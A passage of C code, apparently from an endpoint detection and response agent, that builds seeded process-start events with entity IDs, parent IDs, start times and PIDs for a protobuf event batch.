        evs[i] = e;
        edr__v1__event__init(e);
        Edr__V1__ProcessStart *ps = process_start(a, p);
        if (!ps)
            return NULL;
        ps->seeded = 1;
        ps->start_time_ns = s->opts.start_ns;
        e->body_case = EDR__V1__EVENT__BODY_PROCESS_START;
        e->process_start = ps;
        e->entity_id = idb(a, p->id);
        if (memcmp(p->parent, (const uint8_t[16]){0}, 16))
            e->parent_entity_id = idb(a, p->parent);
        e->pid = e->tid = p->pid;
    }
    return b;
}
